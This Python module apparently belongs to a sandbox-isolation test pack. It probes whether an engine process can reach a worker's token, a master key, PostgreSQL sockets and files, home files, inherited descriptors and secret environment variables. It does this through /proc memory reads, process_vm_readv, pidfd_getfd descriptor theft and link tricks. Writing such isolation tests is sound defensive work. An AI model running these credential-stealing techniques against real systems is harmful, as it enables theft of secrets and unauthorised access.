"""Attacks on what the worker and the server keep: token, master key, database, what they hold open."""

import os
import socket
from collections.abc import Callable
from pathlib import Path

from . import kernel
from .loot import TOKEN, Given, Loot, attack, engine_folders, files_below, listing, read, search

_DESCRIPTORS = range(64)


@attack(
    "worker-token",
    "the token by its file, by the worker's environment, command line, memory, descriptors, root and working folder",
)
def worker_token(loot: Loot, given: Given) -> None:
    """Look everywhere where the worker's token could be."""
    pid = given["worker_pid"]
    loot.attempt("own environment", lambda: TOKEN.findall(repr(dict(os.environ)).encode()))
    loot.attempt("own memory", lambda: _search_memory("self", _by_file("self")))
    loot.attempt("its file", search, given["token_file"], TOKEN)
    for name in ("environ", "cmdline"):
        loot.attempt(f"/proc/worker/{name}", search, f"/proc/{pid}/{name}", TOKEN)
    for way in ("root", "cwd", "task/{pid}/root"):
        place = f"/proc/{pid}/{way.format(pid=pid)}"
        loot.attempt(f"/proc/worker/{way}", listing, place)
    loot.attempt("/proc/worker/mem", lambda: _search_memory(pid, _by_file(pid)))
    loot.attempt("process_vm_readv", lambda: _search_memory(pid, lambda at, size: kernel.read_memory(pid, at, size)))
    loot.attempt("/proc/worker/fd", _open_descriptors, pid)
    loot.attempt("pidfd_getfd", _steal_descriptors, pid)


@attack("master-key", "`secret.key` by its path, through `/proc/*/root`, by a hard link and a link into its own folder")
def master_key(loot: Loot, given: Given) -> None:
    """Read the installation's master key."""
    path = str(given["secret_key"])
    loot.attempt("its file", read, path)
    for pid in ("1", "self", str(given["worker_pid"]), str(given["server_pid"])):
        loot.attempt(f"/proc/{pid}/root", read, f"/proc/{pid}/root{path}")
    output = engine_folders()["output"]
    for way, link in (("hard link", os.link), ("link", os.symlink)):
        loot.attempt(way, _read_linked, link, path, f"{output}/{way}.txt")


@attack("database", "PostgreSQL's socket, its password, its files, and the port that the server listens on")
def database(loot: Loot, given: Given) -> None:
    """Reach the database or its files."""
    for path in given["database_sockets"]:
        loot.attempt(f"connect {Path(path).name}", _connect, path)
    for path in given["database_files"]:
        loot.attempt(f"read {Path(path).name}", read, path)
        loot.attempt(f"list {Path(path).name}", listing, path)
    loot.attempt("the server's port", _connect_port, given["server_port"])


@attack("home", "every file below the installation's home, stored pictures and thumbnails included")
def home(loot: Loot, given: Given) -> None:
    """Read whatever lies in the home; what is this engine's own does not count."""
    own = [os.path.realpath(folder) for folder in engine_folders().values()]

    def foreign() -> list[str]:
        found = []
        for path in files_below(given["home"]):
            if not any(os.path.realpath(path).startswith(folder) for folder in own) and os.access(path, os.R_OK):
                found.append(path)
        return found[:5]

    loot.attempt("readable files", foreign)
    for name in given["stored_files"]:
        loot.attempt(f"stored {Path(name).parent.name}", read, name)


@attack("inherited-descriptors", "descriptors, standard output and input that the engine was started with")
def inherited_descriptors(loot: Loot, given: Given) -> None:
    """Look at the descriptors of this process for something that is not of its own making."""
    folders = [os.path.realpath(folder) for folder in engine_folders().values()]

    def foreign() -> list[str]:
        found = []
        for name in os.listdir("/proc/self/fd"):
            try:
                path = os.readlink(f"/proc/self/fd/{name}")
            except OSError:
                continue
            beneath = path.startswith("/") and os.path.exists(path)
            own = any(path.startswith(folder) for folder in folders) or path.startswith(("/dev/", "/proc/", "/usr/"))
            if beneath and not own and not path.startswith(given["comfyui"]) and "/lib/python" not in path:
                found.append(f"{name} -> {path}")
        return found

    def is_the_worker_s(number: int) -> str:
        here, there = (os.readlink(f"/proc/{pid}/fd/{number}") for pid in ("self", given["worker_pid"]))
        return here if here == there and not here.startswith("/dev/null") else ""

    loot.attempt("open files", foreign)
    for number in (0, 1, 2):
        loot.attempt(f"descriptor {number} of the worker", is_the_worker_s, number)


@attack("environment", "settings and secrets in its own environment")
def environment(loot: Loot, given: Given) -> None:
    """Look for variables that no engine should have."""
    words = ("RUNFLOW_", "AWS_", "PGPASS", "DATABASE_", str(given["operator_variable"]))
    left = {"RUNFLOW_HOSTILE_KEPT"}  # by another attack of this pack
    loot.attempt(
        "os.environ", lambda: sorted(name for name in os.environ if name.startswith(words) and name not in left)
    )

    def began_with() -> list[str]:
        # The plugin takes the engine's secret out of its environment; the kernel keeps what the process began with.
        entries = Path("/proc/self/environ").read_bytes().split(b"\0")
        names = sorted(entry.partition(b"=")[0].decode() for entry in entries)
        return [name for name in names if name.startswith(words) and name != "RUNFLOW_ENGINE_SECRET"]

    loot.attempt("/proc/self/environ", began_with)


def _by_file(pid: int | str) -> Callable[[int, int], bytes]:
    descriptor = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    return lambda at, size: os.pread(descriptor, size, at)


def _search_memory(pid: int | str, pieces: Callable[[int, int], bytes]) -> list[str]:
    """Search what a process has on its heap and stacks. Raises OSError where that is not allowed."""
    with open(f"/proc/{pid}/maps") as maps:
        ranges = [line.split() for line in maps if line.split()[1].startswith("rw")]
    found: set[str] = set()
    refused: OSError | None = None
    for line in ranges:
        start, end = (int(part, 16) for part in line[0].split("-"))
        for at in range(start, end, 2**22):
            try:
                found |= {token.decode() for token in TOKEN.findall(pieces(at, min(2**22, end - at)))}
            except OSError as error:
                refused = error
                break
    if not found and refused is not None:
        raise refused
    return [f"{len(found)} tokens"] if found else []


def _open_descriptors(pid: int) -> list[str]:
    return [name for name in os.listdir(f"/proc/{pid}/fd") if os.readlink(f"/proc/{pid}/fd/{name}")][:5]


def _steal_descriptors(pid: int) -> list[int]:
    handle = kernel.syscall("pidfd_open", pid, 0)
    stolen = []
    refused: OSError | None = None
    for number in _DESCRIPTORS:
        try:
            stolen.append(kernel.syscall("pidfd_getfd", handle, number, 0))
        except OSError as error:
            refused = error
    for descriptor in stolen:
        os.close(descriptor)
    if not stolen and refused is not None:
        raise refused
    return stolen


def _read_linked(link: Callable[[str, str], None], path: str, at: str) -> str:
    Path(at).unlink(missing_ok=True)
    link(path, at)
    try:
        return read(at)
    finally:
        Path(at).unlink()


def _connect(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(2)
        client.connect(path)
    return f"connected to {path}"


def _connect_port(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=2):
        return f"connected to {port}"
